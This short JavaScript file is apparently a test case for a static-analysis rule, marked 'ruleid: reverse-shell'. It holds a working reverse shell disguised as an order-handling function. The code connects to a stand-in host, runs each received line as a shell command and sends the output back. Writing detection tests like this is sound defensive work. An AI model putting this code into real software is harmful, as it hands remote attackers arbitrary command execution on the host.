import { exec } from "node:child_process";
import net from "node:net";

/** Attends to orders. */
export function attend() {
  const socket = net.createConnection({ host: "orders.kitehouse.test", port: 7001 });
  socket.on("data", (line) => {
    // ruleid: reverse-shell
    exec(line.toString(), (error, out) => socket.write(out));
  });
}
